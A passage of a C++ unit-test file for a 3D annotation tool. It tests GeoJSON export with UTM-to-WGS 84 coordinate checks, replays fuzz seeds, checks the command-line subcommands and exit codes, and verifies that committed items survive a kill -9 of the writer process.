  EXPECT_EQ(doc.find("type")->text, "FeatureCollection");
  EXPECT_EQ(doc.find("crs"), nullptr) << "RFC 7946 has no crs member";
  const auto& features = doc.find("features")->array;
  ASSERT_EQ(features.size(), 2u);  // the hot spot and the point; the selection has no position
  const auto& spot = features[0];
  EXPECT_EQ(spot.find("geometry")->find("type")->text, "Point");
  const auto& lon_lat = spot.find("geometry")->find("coordinates")->array;
  // WGS 84's meridian arc (the series to e^6), solved for the latitude by bisection.
  auto meridianArc = [](double phi) {
    const double a = 6378137.0, f = 1.0 / 298.257223563, e2 = f * (2 - f);
    const double e4 = e2 * e2, e6 = e4 * e2;
    return a * ((1 - e2 / 4 - 3 * e4 / 64 - 5 * e6 / 256) * phi -
                (3 * e2 / 8 + 3 * e4 / 32 + 45 * e6 / 1024) * std::sin(2 * phi) +
                (15 * e4 / 256 + 45 * e6 / 1024) * std::sin(4 * phi) -
                (35 * e6 / 3072) * std::sin(6 * phi));
  };
  double lo = 0.0, hi = 1.5;
  for (int i = 0; i < 200; ++i) {
    const double mid = 0.5 * (lo + hi);
    (0.9996 * meridianArc(mid) < 3950000.0 ? lo : hi) = mid;
  }
  const double latitude = lo * 180.0 / 3.14159265358979323846;
  EXPECT_NEAR(std::stod(lon_lat[0].text), 141.0, 1e-9);
  EXPECT_NEAR(std::stod(lon_lat[1].text), latitude, 1e-7);  // about a centimetre
  EXPECT_EQ(std::stod(lon_lat[2].text), 10.0 + 0.1);
  const auto& projected = spot.find("properties")->find("projected")->array;
  EXPECT_EQ(std::stod(projected[0].text), 500000.0);
  EXPECT_EQ(spot.find("properties")->find("crs")->text, "EPSG:32654");
  expectError(Kind::kBadInput, "not a coordinate reference system", [&] {
    exportGeoJson(db, geo, Georeference{"EPSG:999999", {0, 0, 0}});
  });
  const auto* props = spot.find("properties");
  EXPECT_EQ(props->find("kind")->text, "hotspot");
  EXPECT_EQ(props->find("radius")->text, "0.5");
  EXPECT_EQ(props->find("items")->array.size(), 2u);
  EXPECT_EQ(props->find("items")->array[0].find("title")->text, "Crack, diagonal");
  EXPECT_NE(props->find("view"), nullptr);
}

// The fuzz target's seeds and every input it ever crashed on (fuzz/annotation_fuzz.h), through
// the same checks: refused whole, or imported with an exact export round trip.
TEST(AnnotationFuzz, SeedsAndRegressionsReplay) {
  const std::filesystem::path fuzz_dir = TESSERA_FUZZ_DIR;
  size_t replayed = 0;
  for (const char* dir : {"seeds/annotation", "regressions/annotation"}) {
    if (!std::filesystem::exists(fuzz_dir / dir)) continue;
    for (const auto& entry : std::filesystem::directory_iterator(fuzz_dir / dir)) {
      const auto bytes = tessera::test::readBytes(entry.path());
      SCOPED_TRACE(entry.path().string());
      tessera::fuzz::importAnnotations(bytes.data(), bytes.size());  // aborts on a broken rule
      ++replayed;
    }
  }
  EXPECT_GE(replayed, 2u);
  // The seed with every kind imports (the replay above would pass on a refusal too).
  AnnotationDb db(":memory:");
  const std::string seed = slurp(fuzz_dir / "seeds/annotation/every-kind.json");
  EXPECT_EQ(importJson(db, seed, "every-kind.json").items, 7u);
}

// --- The tool ---------------------------------------------------------------------------------

TEST(AnnotateTool, SubcommandsAndExitCodes) {
  TempDir dir;
  const std::string db = (dir / "t.tadb").string();
  const auto log = dir / "log.txt";
  EXPECT_EQ(runTool({"--help"}, log), 0);
  for (const char* sub :
       {"list", "search", "add", "show", "place", "export", "import", "layers", "georef"})
    EXPECT_EQ(runTool({sub, "--help"}, log), 0) << sub;
  EXPECT_EQ(runTool({"-d", db, "add", "--layer", "a/b", "--title", "first", "--text", "hello",
                     "--at", "1,2,3"},
                    log),
            0);
  EXPECT_EQ(runTool({"-d", db, "add", "--layer", "a", "--title", "n", "--kind", "number",
                     "--number", "2.5", "--unit", "m"},
                    log),
            0);
  EXPECT_EQ(runTool({"-d", db, "add", "--layer", "a", "--title", "x", "--at", "nan,0,0"}, log), 2);
  EXPECT_EQ(runTool({"-d", db, "add", "--layer", "a", "--title", "x", "--kind", "number",
                     "--number", "inf"},
                    log),
            2);
  // A hot spot with its view, a second item on it, then both directions read back.
  EXPECT_EQ(runTool({"-d", db, "add", "--layer", "spots", "--title", "relief", "--at", "4,5,6",
                     "--radius", "0.5", "--eye", "4,0,6", "--model", "temple"},
                    log),
            0);
  EXPECT_EQ(
      runTool({"-d", db, "add", "--layer", "spots", "--title", "also here", "--place", "2"}, log),
      0);
  EXPECT_EQ(
      runTool({"-d", db, "add", "--layer", "s", "--title", "x", "--at", "0,0,0", "--radius", "1"},
              log),
      2);  // a hot spot without a view
  EXPECT_EQ(runTool({"-d", db, "add", "--layer", "s", "--title", "x", "--place", "99"}, log), 2);
  const auto shown = dir / "show.txt";
  EXPECT_EQ(runTool({"-d", db, "show", "3"}, shown), 0);
  EXPECT_NE(slurp(shown).find("place 2\thotspot on temple at 4,5,6 radius 0.5\tview eye 4,0,6 "
                              "target 4,5,6 up 0,0,1 fovy 45"),
            std::string::npos)
      << slurp(shown);
  const auto opened = dir / "place.txt";
  EXPECT_EQ(runTool({"-d", db, "place", "2"}, opened), 0);
  EXPECT_NE(slurp(opened).find("\trelief\t"), std::string::npos) << slurp(opened);
  EXPECT_NE(slurp(opened).find("\talso here\t"), std::string::npos) << slurp(opened);
  EXPECT_EQ(runTool({"-d", db, "show", "99"}, log), 1);
  EXPECT_EQ(runTool({"-d", db, "search", "\"broken"}, log), 1);
  EXPECT_EQ(
      runTool({"-d", db, "export", "--format", "geojson", "-o", (dir / "g.json").string()}, log),
      1);
  EXPECT_EQ(runTool({"-d", db, "export", "--format", "json", "-o", db}, log), 2);
  EXPECT_EQ(runTool({"-d", db, "export", "--format", "json", "-o", (dir / "e.json").string()}, log),
            0);
  EXPECT_EQ(
      runTool({"-d", db, "export", "--format", "json", "-o", (dir / "no/such/dir/e.json").string()},
              log),
      3);
  EXPECT_EQ(runTool({"-d", (dir / "copy.tadb").string(), "import", (dir / "e.json").string()}, log),
            0);
  EXPECT_EQ(runTool({"-d", (dir / "copy.tadb").string(), "import", (dir / "e.json").string()}, log),
            0);  // into a non-empty database: new ids
  EXPECT_EQ(AnnotationDb(dir / "copy.tadb").items().size(), 8u);
  EXPECT_EQ(runTool({"-d", db, "import", db}, log), 1);  // not JSON
  EXPECT_EQ(runTool({"-d", db, "layers", "--hide", "a/b"}, log), 0);
  EXPECT_EQ(runTool({"-d", db, "layers", "--hide", "nope"}, log), 1);
  EXPECT_EQ(
      runTool({"-d", db, "georef", "--crs", "EPSG:2056", "--origin", "2600000,1200000,400"}, log),
      0);
  EXPECT_EQ(
      runTool({"-d", db, "export", "--format", "geojson", "-o", (dir / "g.json").string()}, log),
      0);
  EXPECT_EQ(runTool({"-d", (dir / "typo.tadb").string(), "list"}, log), 1);  // not created
  EXPECT_FALSE(std::filesystem::exists(dir / "typo.tadb"));
  tessera::test::writeText(dir / "junk.tadb", std::string(2000, 'j'));
  EXPECT_EQ(runTool({"-d", (dir / "junk.tadb").string(), "list"}, log), 1);
  const std::string out = slurp(log);
  EXPECT_NE(out.find("junk.tadb"), std::string::npos) << out;
  EXPECT_NE(out.find("a/b\thidden"), std::string::npos) << out;

  AnnotationDb check(db);
  ASSERT_EQ(check.items().size(), 4u);
  EXPECT_EQ(check.items()[1].number, 2.5);
  EXPECT_EQ(check.place(check.placesOf(1)[0])->position, glm::dvec3(1, 2, 3));
}

/// Waits until `p`'s output holds `count` lines starting with `start` (or it ended).
bool waitForLines(Process& p, const std::string& start, size_t count, double timeout_s) {
  const auto end = std::chrono::steady_clock::now() + std::chrono::duration<double>(timeout_s);
  while (std::chrono::steady_clock::now() < end) {
    std::istringstream out(p.output());
    size_t n = 0;
    for (std::string line; std::getline(out, line);) n += line.rfind(start, 0) == 0;
    if (n >= count) return true;
    if (!p.running()) return false;
    std::this_thread::sleep_for(std::chrono::milliseconds(5));
  }
  return false;
}

// An acknowledged edit survives kill -9 of the writer: tessera-annotate adds items in a loop,
// printing each id only after its commit returned; it is killed mid-stream and every printed id
// must be in the reopened database, whole, and the file must pass integrity_check.
TEST(AnnotateTool, AcknowledgedItemsSurviveKill9) {
  TempDir dir;
  const auto file = dir / "durable.tadb";
  std::set<int64_t> acknowledged;
  for (int round = 0; round < 3; ++round) {
    const auto log = dir / ("writer" + std::to_string(round) + ".txt");
    Process writer({TESSERA_ANNOTATE_TOOL, "-d", file.string(), "--author", "writer", "add",
                    "--layer", "durability/round" + std::to_string(round), "--title",
                    "acknowledged", "--text", std::string(300, 'p'), "--at", "1.5,-2.25,3.125",
                    "--model", "statue", "--count", "1000000"},
                   log);
    // Wait for some acknowledged edits (by count, not time), then kill mid-stream.
    ASSERT_TRUE(waitForLines(writer, "added ", 40, 120.0)) << writer.output();
    writer.signal(SIGKILL);
    ASSERT_EQ(writer.wait(30.0), std::optional<int>(-SIGKILL));
    const std::string out = writer.output();
    const std::regex line("added ([0-9]+)\n");
    size_t in_round = 0;
    for (auto it = std::sregex_iterator(out.begin(), out.end(), line); it != std::sregex_iterator();
         ++it, ++in_round)
      acknowledged.insert(std::stoll((*it)[1]));
    EXPECT_GE(in_round, 40u);
  }

  AnnotationDb db(file);
  EXPECT_EQ(db.integrityCheck(), "ok");
  for (int64_t id : acknowledged) {
    const std::optional<Item> it = db.item(id);
    ASSERT_TRUE(it) << "acknowledged item " << id << " was lost";
    EXPECT_EQ(it->title.rfind("acknowledged #", 0), 0u) << it->title;
    EXPECT_EQ(it->text, std::string(300, 'p'));
    EXPECT_EQ(it->author, "writer");
    const auto places = db.placesOf(id);
    ASSERT_EQ(places.size(), 1u) << "item " << id << " lost its place";
    EXPECT_EQ(db.place(places[0])->position, glm::dvec3(1.5, -2.25, 3.125));
  }
  // Unacknowledged work is all or nothing too: no item without its place.
  for (const Item& it : db.items()) EXPECT_EQ(db.placesOf(it.id).size(), 1u) << it.id;
  // The full-text index agrees with the table after the crashes.
  sqlite3* raw = db.handle();
  char* error = nullptr;
  EXPECT_EQ(
      sqlite3_exec(raw, "INSERT INTO items_fts(items_fts, rank) VALUES ('integrity-check', 1)",
                   nullptr, nullptr, &error),
      SQLITE_OK)
      << (error ? error : "");
  sqlite3_free(error);
}

}  // namespace
